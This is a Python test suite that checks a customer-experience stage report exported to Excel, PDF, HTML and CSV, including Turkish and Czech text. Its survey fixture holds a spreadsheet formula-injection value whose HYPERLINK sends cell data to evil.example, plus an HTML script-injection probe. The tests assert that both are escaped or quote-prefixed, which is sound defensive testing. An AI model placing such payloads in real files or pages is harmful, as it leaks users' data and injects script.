"""Stage reports read back in every format: openpyxl, pypdf, html.parser and csv."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

import db
from cxcore import reports
from cxcore.filters import Filters
from cxcore.ingest.pipeline import import_file
from cxcore.text.taxonomy import load_taxonomy

HEADER = "Response ID,Date,Channel,Stage,NPS,Comment\n"
# Support: NPS 10, 9, 2, 0, 7 -> 2 promoters, 2 detractors of 5 = 0.
# Usage & billing: NPS 3, 4 -> 0 promoters, 2 detractors of 2 = −100.
SURVEY = HEADER + (
    "R1,2026-03-02,Phone,Support,10,Temsilci çok ilgiliydi ve sorunumu hemen çözdü\n"
    'R2,2026-03-03,Chat,Support,9,"Skvělá podpora, děkuji za rychlé vyřízení"\n'
    'R3,2026-03-04,IVR,Support,2,"Sesli menü berbat, bir saat bekledim"\n'
    'R4,2026-03-05,Phone,Support,0,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
    "R5,2026-03-06,Chat,Support,7,<script>alert('x')</script> agent was good\n"
    "R6,2026-03-09,Invoice,Usage & billing,3,Faktura přišla špatně a řešení trvalo týden\n"
    "R7,2026-03-10,Invoice,Usage & billing,4,+90 555 numarası faturada yanlış yazıyor\n"
)
FORMULA_LIKE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PLUS_LIKE = "+90 555 numarası faturada yanlış yazıyor"
GENERATED = datetime(2026, 3, 31, 9, 30, tzinfo=UTC)


@pytest.fixture
def seeded(engine):
    import_file(SURVEY.encode(), "support.csv", engine=engine, survey="Q1")
    return engine


def report_of(engine, stages, lang="en", filters=None, cap=reports.VERBATIM_CAP):
    filters = filters or Filters()
    summary = db.stage_summary(engine, filters)
    responses = db.responses_frame(engine, filters, columns=reports.RESPONSE_COLUMNS)
    return reports.build_report(
        summary, responses, load_taxonomy(), filters, stages, lang, GENERATED, cap
    )


def test_build_report_has_the_stage_kpis_with_intervals(seeded):
    report = report_of(seeded, ["support"])
    (section,) = report.sections
    assert (section.key, section.name) == ("support", "Service & support")
    assert section.kpis.loc["responses", "value"] == 5
    assert section.kpis.loc["nps", "value"] == pytest.approx(0.0)
    low, high = section.kpis.loc["nps", ["low", "high"]]
    assert low < 0 < high
    assert list(report.curve["stage"])[:3] == ["awareness", "consideration", "purchase"]


def test_several_stages_get_a_whole_journey_section_first(seeded):
    report = report_of(seeded, reports.ALL, lang="cs")
    keys = [s.key for s in report.sections]
    assert keys == ["all", "usage", "support"]
    assert report.sections[0].name == "Celá cesta"
    assert report.sections[0].kpis.loc["responses", "value"] == 7


def test_xlsx_has_every_sheet_values_the_chart_and_formula_like_text(seeded):
    data = reports.write_report(report_of(seeded, reports.ALL), "xlsx")
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == [
        "Summary",
        "Pain points",
        "Actions",
        "Insights",
        "Moments of truth",
        "Touchpoints",
        "Trend",
        "Verbatims",
        "Themes",
    ]

    summary = book["Summary"]
    rows = list(summary.iter_rows(values_only=True))
    assert rows[0][0] == "Stage report"
    assert ("Period", "all dates") == rows[1][:2]
    assert rows[3][:2] == ("Generated", "31 Mar 2026 09:30 UTC")
    # The first rows of these names are the KPI table's (the curve's table comes after).
    kpi_rows = [r for r in rows if r and r[0] in ("Whole journey", "Service & support")]
    by_stage = {r[0]: r for r in reversed(kpi_rows)}
    header = next(r for r in rows if r and r[0] == "Stage")
    assert header[1:3] == ("Responses", "NPS")
    assert by_stage["Service & support"][1] == 5 and by_stage["Service & support"][
        2
    ] == pytest.approx(0.0)
    assert by_stage["Whole journey"][1] == 7
    nps_low, nps_high = by_stage["Service & support"][3:5]
    assert nps_low < 0 < nps_high
    assert len(summary.conditional_formatting) >= 2

    (chart,) = summary._charts
    assert type(chart).__name__ == "LineChart"
    assert len(chart.series) == 1

    for name in ("Touchpoints", "Trend", "Verbatims", "Themes"):
        sheet = book[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet["A1"].font.b, name
        assert sheet.column_dimensions["A"].width > 8, name

    verbatims = book["Verbatims"]
    header = [c.value for c in verbatims[1]]
    assert header[:6] == ["Date", "Stage", "Touchpoint", "Channel", "Survey", "Comment"]
    comments = {row[5].value: row for row in verbatims.iter_rows(min_row=2)}
    assert len(comments) == 7
    for text in (FORMULA_LIKE, PLUS_LIKE, "Skvělá podpora, děkuji za rychlé vyřízení"):
        cell = comments[text][5]
        assert cell.data_type == "s"
        assert cell.value == text
    assert comments[FORMULA_LIKE][3].value == "Phone"
    assert comments[FORMULA_LIKE][0].value == datetime(2026, 3, 5)
    assert comments[FORMULA_LIKE][0].number_format == "yyyy-mm-dd"
    assert comments[FORMULA_LIKE][5].quotePrefix
    assert verbatims.conditional_formatting  # red-to-green on sentiment

    touchpoints = {r[1]: r for r in book["Touchpoints"].iter_rows(min_row=2, values_only=True)}
    assert touchpoints["IVR / voice self-service"][2] == 1


def test_xlsx_verbatims_cap_says_so(seeded):
    data = reports.write_report(report_of(seeded, ["support"], cap=2), "xlsx")
    book = load_workbook(io.BytesIO(data))
    rows = list(book["Verbatims"].iter_rows(values_only=True))
    assert len(rows) == 1 + 2 + 1
    assert rows[-1][0].startswith("Showing the 2 newest of 5 comments")
    assert any("of 5 comments" in str(r[0]) for r in book["Summary"].iter_rows(values_only=True))


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_pdf_is_a4_with_stage_names_kpis_and_turkish_and_czech_text(seeded):
    filters = Filters(date_from=date(2026, 3, 1), date_to=date(2026, 3, 31))
    data = reports.write_report(report_of(seeded, reports.ALL, "tr", filters), "pdf")
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) >= 4  # title, whole journey, two stages
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert (round(float(width)), round(float(height))) == (595, 842)  # A4 in points
    text = pdf_text(data)
    assert "Aşama raporu" in text and "Dönem: 01.03.2026 – 31.03.2026" in text
    assert "Destek" in text and "Kullanım ve fatura" in text  # stage names in Turkish
    assert "NPS" in text and "−100" in text  # usage & billing's NPS
    assert "Sesli menü berbat, bir saat bekledim" in text  # most negative, with ü ş
    assert "Faktura přišla špatně a řešení trvalo týden" in text  # Czech ř š ě


def test_pdf_prints_every_turkish_and_czech_letter(seeded):
    report = report_of(seeded, ["support"])
    letters = "ğ ş ı İ ö ü ç ě š č ř ž ý á í é ů ú"
    pangram = reports.Report(
        **{**report.__dict__, "title": f"Zpráva {letters}", "filters": f"Anket: {letters}"}
    )
    text = pdf_text(reports.write_report(pangram, "pdf"))
    assert f"Zpráva {letters}" in text
    assert f"Anket: {letters}" in text


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.attrs: list[tuple[str, str, str | None]] = []
        self.scripts = 0
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.attrs += [(tag, k, v) for k, v in attrs]
        if tag == "script":
            self.scripts += 1
            self._in_script = True

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if not self._in_script:
            self.text.append(data)


def test_html_is_one_offline_file_with_escaped_comments_and_a_print_style(seeded):
    page = reports.write_report(report_of(seeded, ["support"], "cs"), "html").decode("utf-8")
    parser = _Collector()
    parser.feed(page)
    external = [
        (tag, key, value)
        for tag, key, value in parser.attrs
        if key in ("src", "href") and value and re.match(r"(https?:)?//", value)
    ]
    assert external == []
    assert not re.search(r"""url\(\s*['"]?(https?:)?//""", page)
    assert not re.search(r"<(script|link|img)[^>]+(src|href)=", page)
    assert "Plotly.newPlot" in page and len(page) > 1_000_000  # plotly.js inline
    assert "@media print" in page
    # The comment's <script> is text, never a tag: only plotly's own scripts are scripts.
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; agent was good" in page
    assert "<script>alert" not in page
    text = "".join(parser.text)
    assert "Podpora" in text and "Nejnegativnější komentáře" in text
    assert "Sesli menü berbat, bir saat bekledim" in text


def test_csv_has_a_bom_every_response_and_formula_like_text_quoted(seeded):
    data = reports.write_report(report_of(seeded, ["support", "usage"]), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 7
    assert set(rows[0]) >= {"Stage", "Touchpoint", "Comment", "Language", "Sentiment"}
    comments = {r["Response ID"]: r for r in rows}
    assert comments["R4"]["Comment"] == "'" + FORMULA_LIKE
    assert comments["R7"]["Comment"] == "'" + PLUS_LIKE
    assert comments["R2"]["Comment"] == "Skvělá podpora, děkuji za rychlé vyřízení"
    assert comments["R6"]["Stage"] == "Usage & billing"
    assert float(comments["R3"]["Sentiment"]) < 0  # numbers stay numbers, not quoted


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+420 777", "'+420 777"),
        ("-2 stars", "'-2 stars"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Fine = good", "Fine = good"),
        (-0.5, -0.5),
    ],
)
def test_safe_text_quotes_only_text_that_starts_like_a_formula(value, written):
    assert reports.safe_text(value) == written


def test_an_empty_stage_still_writes_every_format(engine):
    report = report_of(engine, ["support"])
    for fmt in reports.FORMATS:
        assert reports.write_report(report, fmt)
    assert "No responses match these filters." in pdf_text(reports.write_report(report, "pdf"))


def test_unknown_format_names_the_choices(seeded):
    with pytest.raises(ValueError, match="xlsx, pdf, html, csv"):
        reports.write_report(report_of(seeded, ["support"]), "docx")


def planted_report(engine, fmt_lang="en"):
    from tests.planted import planted_survey

    import_file(planted_survey().encode(), "planted.csv", engine=engine)
    summary = db.stage_summary(engine)
    responses = db.responses_frame(engine, columns=reports.RESPONSE_COLUMNS)
    return reports.build_report(
        summary,
        responses,
        load_taxonomy(),
        Filters(),
        reports.ALL,
        fmt_lang,
        GENERATED,
        cells=db.cell_summary(engine),
    )


def test_the_planted_pain_point_leads_every_format(engine):
    report = planted_report(engine)
    rows = reports.pain_point_rows(report)
    # Support (40 detractors) is below the rest on NPS, as a stage and as its phone cell.
    assert rows[0][0] == "Service & support"
    assert {r[2] for r in rows} >= {"NPS (−100…100)"}
    assert rows[0][3] == "−100"
    book = load_workbook(io.BytesIO(reports.write_report(report, "xlsx")))
    sheet = book["Pain points"]
    assert [c.value for c in sheet[1]][:3] == ["Stage", "Touchpoint", "Metric"]
    assert sheet["A2"].value == "Service & support" and sheet["F2"].value == 40
    page = reports.write_report(report, "html").decode("utf-8")
    assert page.index("<h2>Pain points</h2>") < page.index("Service &amp; support</h2>")
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(report_pdf_bytes(report))).pages)
    assert "Pain points" in text and "Service & support" in text


def report_pdf_bytes(report):
    return reports.write_report(report, "pdf")


def test_pain_points_in_turkish(engine):
    report = planted_report(engine, "tr")
    pages = PdfReader(io.BytesIO(report_pdf_bytes(report))).pages
    text = "".join(p.extract_text() for p in pages)
    assert "Sorunlu noktalar" in text
    assert reports.pain_point_rows(report)[0][0] == "Destek"


def test_a_report_without_pain_points_says_so(seeded):
    quiet = report_of(seeded, ["support"])  # built without cells: nothing computed
    assert quiet.pain_points.empty
    book = load_workbook(io.BytesIO(reports.write_report(quiet, "xlsx")))
    assert book["Pain points"]["A2"].value.startswith("No stage or touchpoint")
    assert "No stage or touchpoint" in reports.write_report(quiet, "html").decode("utf-8")


def test_the_planted_moment_of_truth_is_in_the_whole_journey_report(planted_driver):
    """A bad support contact costs exactly 60 NPS points (see the insights tests)."""
    summary = db.stage_summary(planted_driver)
    responses = db.responses_frame(planted_driver, columns=reports.RESPONSE_COLUMNS)
    report = reports.build_report(summary, responses, load_taxonomy(), stages=reports.ALL)
    (sentence,) = report.moments_of_truth
    assert "Service & support" in sentence and "60" in sentence
    book = load_workbook(io.BytesIO(reports.write_report(report, "xlsx")))
    assert book["Moments of truth"]["A2"].value == sentence
    page = reports.write_report(report, "html").decode("utf-8")
    assert "<h2>Moments of truth</h2>" in page
    # One stage alone has no customers' other stages: no drivers, said plainly.
    single = reports.build_report(summary, responses, load_taxonomy(), stages=["support"])
    assert single.moments_of_truth == []
    text = "".join(
        p.extract_text() for p in PdfReader(io.BytesIO(reports.write_report(single, "pdf"))).pages
    )
    words = " ".join(text.split())  # the PDF's justified lines come back with double spaces
    assert "Moments of truth" in words and "Too few customers answered at several" in words


def test_channel_hopping_and_what_changed_in_the_report(planted_hops):
    from cxcore import views

    sections = views.report_insights(views.Sums(planted_hops), Filters(), load_taxonomy())
    (hop, *_) = sections["channel_hopping"]
    # 20 IVR contacts, 7 followed within 7 days, all on social media (test_insights.py).
    assert "IVR" in hop and "35%" in hop and "Social media" in hop
    assert sections["what_changed"][0].startswith("Period: ")
    summary = db.stage_summary(planted_hops)
    responses = db.responses_frame(planted_hops, columns=reports.RESPONSE_COLUMNS)
    report = reports.build_report(
        summary, responses, load_taxonomy(), stages=reports.ALL, insight_sections=sections
    )
    book = load_workbook(io.BytesIO(reports.write_report(report, "xlsx")))
    found = [(r[0].value, r[1].value) for r in book["Insights"].iter_rows(min_row=2)]
    assert ("Channel hopping", hop) in found
    assert "<h2>What changed</h2>" in reports.write_report(report, "html").decode("utf-8")
